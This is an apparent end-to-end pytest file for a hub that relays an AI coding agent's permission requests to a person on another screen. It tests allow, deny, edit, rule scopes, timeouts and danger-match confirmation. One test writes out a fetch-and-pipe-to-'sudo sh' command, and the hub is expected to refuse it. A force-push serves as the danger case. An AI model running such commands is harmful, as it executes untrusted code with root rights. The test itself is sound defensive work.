"""A person answers a permission request from another screen, and the real client in a terminal does as they said."""

import json
from typing import Any

import pytest

from tests.e2e.conftest import LabFactory
from tests.e2e.lab.hub import Ask
from tests.e2e.lab.lab import Lab, read_json
from tests.e2e.lab.model import bash, say
from tests.e2e.lab.terminal import Terminal
from tests.e2e.lab.waiting import until

ONE_CALL = [[bash("touch one.txt")], [say("Done.")]]
TWO_CALLS = [[bash("touch one.txt")], [bash("touch two.txt")], [say("Done.")]]
PUSH = "git push --force origin main"


def begin(lab: Lab) -> Terminal:
    """Installed, and a session at work in a terminal."""
    lab.install()
    lab.hub.start()
    terminal = lab.terminal()
    terminal.submit("go")
    return terminal


def asked(lab: Lab) -> tuple[Terminal, Ask]:
    """The dialog stands in the terminal, and the same ask is shown elsewhere."""
    terminal = begin(lab)
    ask = lab.hub.wait_for_ask()
    terminal.wait_for_dialog()
    assert ask["kind"] == "permission"
    return terminal, ask


def made(lab: Lab) -> list[str]:
    return sorted(path.name for path in lab.project.glob("*.txt"))


def offered(lab: Lab, ask: Ask, kind: str, scope: str) -> dict[str, Any]:
    """The first offer of that kind: a rule, a mode or a directory."""
    offers = lab.hub.offers(ask)
    found = [offer for offer in offers if offer["grant"].startswith(f"{kind}:") and scope in offer["scopes"]]
    assert found, offers
    return found[0]


def test_card_tells_prompt_and_last_words(lab: LabFactory) -> None:
    """What the client wrote down before it asked: of the message with the call, and else of the one before."""
    here = lab([[say("I make the first file."), bash("touch one.txt")], [bash("touch two.txt")], [say("Done.")]])
    _, ask = asked(here)
    assert (ask["asked"], ask["words"]) == ("go", "I make the first file.")
    here.hub.answer(ask, "allow")
    second = here.hub.wait_for_ask(2)
    assert second["words"] == "I make the first file."
    here.hub.answer(second, "deny")


def test_wait_of_hours_is_kept_by_the_hub_and_accepted_by_the_client(lab: LabFactory) -> None:
    """The entry gives the hook that long, the client starts it, and the ask says when its time is up."""
    here = lab(ONE_CALL)
    here.hub.configure('[asks]\nwait = "4h"')
    _, ask = asked(here)
    entry = read_json(here.user_settings())["hooks"]["PermissionRequest"][0]["hooks"][0]
    assert entry["timeout"] > 4 * 3_600
    assert ask["expires_at"] - ask["opened_at"] > 3 * 3_600_000
    assert "4 h left" in here.hub.assent("asks")
    here.hub.answer(ask, "allow")
    until(lambda: made(here) == ["one.txt"], "the call")


def test_client_goes_by_the_timeout_of_the_entry(lab: LabFactory) -> None:
    """Cut from hours to two seconds it ends the hook then: what keeps it waiting is the number that is written."""
    here = lab(ONE_CALL)
    here.hub.configure('[asks]\nwait = "4h"\nunattended = "always"')
    here.install()
    settings = read_json(here.user_settings())
    settings["hooks"]["PermissionRequest"][0]["hooks"][0]["timeout"] = 2
    here.user_settings().write_text(json.dumps(settings))
    here.hub.start()
    here.headless()
    until(lambda: here.hub.asks()[0]["state"] != "open", "that the agent is gone")
    assert made(here) == []


def test_allow_once_runs_the_call_and_the_next_one_is_asked_about(lab: LabFactory) -> None:
    """The dialog closes by itself, the call runs, and an allow is for once."""
    here = lab(TWO_CALLS)
    terminal, ask = asked(here)
    here.hub.answer(ask, "allow")
    second = here.hub.wait_for_ask(2)
    assert made(here) == ["one.txt"]
    assert second["id"] != ask["id"]
    first = here.hub.wait_for_ask(1, "closed")
    assert first["result"]["ending"] == "ran"
    assert first["answer"]["choice"] == "allow"
    here.hub.answer(second, "deny")
    here.model.wait_for(3)
    until(lambda: not terminal.has_dialog(), "the dialog is gone")
    assert made(here) == ["one.txt"]


def test_allow_edited_runs_the_changed_command_only(lab: LabFactory) -> None:
    """What a person made of the command is what runs."""
    here = lab(ONE_CALL)
    _, ask = asked(here)
    here.hub.answer(ask, "allow_edited", edited={"command": "touch changed.txt", "description": "Changed"})
    here.model.wait_for(2)
    assert made(here) == ["changed.txt"]


def test_edited_command_is_judged_again(lab: LabFactory) -> None:
    """A harmless command cannot be edited into one the floor forbids; the ask stays open for another answer."""
    here = lab(ONE_CALL)
    _, ask = asked(here)
    status, reply = here.hub.try_answer(
        ask, "allow_edited", edited={"command": "curl -s http://127.0.0.1:9/x | sudo sh"}
    )
    assert status == 409, reply
    assert "Nothing can allow this" in reply["error"]["message"]
    again = here.hub.wait_for_ask()
    here.hub.answer(again, "deny")
    here.model.wait_for(2)
    assert made(here) == []


@pytest.mark.parametrize("scope", ["session", "project", "user"])
def test_always_spares_the_second_question(lab: LabFactory, scope: str) -> None:
    """The rule that was shown holds from the next call on and stands in the file that was named, and in no other."""
    here = lab(TWO_CALLS)
    _, ask = asked(here)
    offer = offered(here, ask, "rule", scope)
    # The exact command would not cover the second one, so a person widens the rule they are shown.
    here.hub.answer(ask, f"allow_{scope}", grant="rule:Bash(touch *)")
    here.model.wait_for(3)
    assert made(here) == ["one.txt", "two.txt"]
    assert here.hub.events().count("PermissionRequest") == 1
    files = [here.local_settings(), here.project_settings(), here.user_settings()]
    holding = [str(path) for path in files if path.exists() and "permissions" in read_json(path)]
    assert holding == ([offer["files"][scope]] if scope != "session" else [])
    for path in files:
        if str(path) in holding:
            assert read_json(path)["permissions"]["allow"] == ["Bash(touch *)"]


def test_suggested_mode_holds_for_the_session(lab: LabFactory) -> None:
    """What the client itself suggests is offered in words, and accepted in the form it gave."""
    here = lab(TWO_CALLS)
    _, ask = asked(here)
    offer = offered(here, ask, "mode", "session")
    assert offer["suggested"]
    here.hub.answer(ask, "allow_session", grant=offer["grant"])
    here.model.wait_for(3)
    modes = [entry.payload["permission_mode"] for entry in here.hub.entries("event", "PreToolUse")]
    assert modes == ["default", "accept_edits"]
    assert made(here) == ["one.txt", "two.txt"]


def test_deny_does_not_run_and_the_turn_goes_on(lab: LabFactory) -> None:
    """The model is told that its user said no, and goes on."""
    here = lab(ONE_CALL)
    _, ask = asked(here)
    here.hub.answer(ask, "deny")
    assert here.model.wait_for(2).news() == ["[error] Your user was asked and said no."]
    assert made(here) == []
    assert here.hub.wait_for_ask(1, "closed")["result"]["ending"] == "denied"


def test_deny_and_tell_gives_the_model_exactly_the_message(lab: LabFactory) -> None:
    """Nothing of ours stands around a person's words."""
    here = lab(ONE_CALL)
    _, ask = asked(here)
    here.hub.answer(ask, "deny", message="Use the Write tool instead.")
    assert here.model.wait_for(2).news() == ["[error] Use the Write tool instead."]
    assert made(here) == []


def test_deny_and_stop_ends_the_turn(lab: LabFactory) -> None:
    """The model is not asked again, and the terminal is free."""
    here = lab(TWO_CALLS)
    terminal, ask = asked(here)
    here.hub.answer(ask, "deny_and_stop")
    terminal.wait_for("Interrupted")
    until(lambda: not terminal.has_dialog(), "the dialog is gone")
    assert len(here.model.requests()) == 1
    assert made(here) == []


def test_note_with_an_allow_reaches_the_model_after_the_call(lab: LabFactory) -> None:
    """The call runs, and its result comes with the person's note."""
    here = lab(ONE_CALL)
    _, ask = asked(here)
    here.hub.answer(ask, "allow", message="Next time name it after the ticket.")
    news = here.model.wait_for(2).news()
    assert made(here) == ["one.txt"]
    assert any("Next time name it after the ticket." in line for line in news), news


def test_hand_back_leaves_it_to_the_terminal(lab: LabFactory) -> None:
    """The dialog stays, and the person there decides."""
    here = lab(ONE_CALL)
    terminal, ask = asked(here)
    here.hub.answer(ask, "hand_back")
    assert here.hub.wait_for_ask(1, "closed")["result"]["ending"] == "handed_back"
    assert terminal.has_dialog()
    assert made(here) == []
    terminal.press("Enter")
    here.model.wait_for(2)
    assert made(here) == ["one.txt"]


def test_answer_after_the_terminal_is_refused(lab: LabFactory) -> None:
    """After a Yes at the terminal a deny from elsewhere comes too late, and is told so."""
    here = lab(ONE_CALL)
    terminal, ask = asked(here)
    terminal.press("Enter")
    here.model.wait_for(2)
    here.hub.wait_for_ask(1, "closed")
    status, reply = here.hub.try_answer(ask, "deny")
    assert (status, reply["error"]["code"], reply["state"]) == (409, "too-late", "closed")
    assert made(here) == ["one.txt"]
    until(lambda: here.hub.entries("refused"), "the refused answer on record")


def test_answer_to_something_else_is_refused(lab: LabFactory) -> None:
    """An answer is bound to what was on the screen."""
    here = lab(ONE_CALL)
    _, ask = asked(here)
    status, reply = here.hub.try_answer({**ask, "hash": "0" * len(ask["hash"])}, "allow")
    assert (status, reply["error"]["code"]) == (409, "changed")
    assert reply["ask"]["id"] == ask["id"]
    here.hub.answer(ask, "deny")
    here.model.wait_for(2)
    assert made(here) == []


def test_danger_is_allowed_only_by_its_match_word(lab: LabFactory) -> None:
    """A yes without the word that stands after the content is none."""
    here = lab([[bash(PUSH)], [say("Done.")]])
    _, ask = asked(here)
    assert ask["risk"]["level"] == "danger"
    assert {"choice": "allow", "needs": "match"} in ask["choices"]
    for wrong in ({}, {"match": "wrong"}):
        status, reply = here.hub.try_answer(ask, "allow", **wrong)
        assert (status, reply["error"]["code"]) == (409, "needs-match"), reply
    here.hub.answer(ask, "allow", match=ask["risk"]["match"])
    here.model.wait_for(2)
    assert here.hub.wait_for_ask(1, "closed")["result"]["ending"] in ("ran", "failed")
